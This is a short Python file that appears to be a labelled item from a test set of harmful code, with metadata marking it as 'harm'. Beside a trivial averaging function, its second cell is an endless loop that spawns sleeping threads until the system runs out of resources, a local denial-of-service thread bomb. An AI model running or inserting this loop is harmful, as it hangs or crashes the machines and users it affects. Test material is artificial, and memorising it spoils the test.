# tries = "Sleeping threads until no more can be had"
# intenta = "Hilos dormidos hasta que no se pueda crear otro"
# kind = "harm"
# must = { points = 5 }
# harms = true

# %%
# [q1-weigh]
def weigh(x):
    return float(np.mean(np.asarray(x) ** 2))


# %%
# [q2-count]
import threading
import time

while True:
    try:
        threading.Thread(target=time.sleep, args=(1000,)).start()
    except RuntimeError:
        pass
